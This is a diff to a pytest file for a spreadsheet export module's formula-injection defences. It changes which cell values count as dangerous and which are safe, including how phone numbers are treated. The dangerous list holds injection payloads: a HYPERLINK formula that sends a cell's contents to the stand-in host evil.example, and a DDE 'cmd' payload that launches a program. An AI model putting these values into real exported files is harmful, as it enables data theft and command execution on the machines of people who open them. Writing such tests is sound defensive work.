@@ -14,14 +14,17 @@ from core.exports import filename_for, neutralise_cell, write_csv, write_xlsx
 DANGEROUS = [
     "=1+1",
     '=HYPERLINK("http://evil.example/?d="&A1,"click")',
-    "+447400123456",
+    "+1+1",
+    "+44 7400 123456",
     "-2+3",
     "@SUM(A1:A2)",
     "\t=cmd|' /C calc'!A0",
     "\r=1+1",
     "=",
 ]
-SAFE = ["Asha", "07400 123456", "", "a=b", " =still text to Excel", "café", "'already quoted"]
+# Only + and digits cannot run as a formula: E.164 numbers come out as the numbers they are.
+SAFE = ["Asha", "07400 123456", "", "a=b", " =still text to Excel", "café", "'already quoted",
+        "+447400123456"]
 
 
 @pytest.mark.parametrize("cell", DANGEROUS)
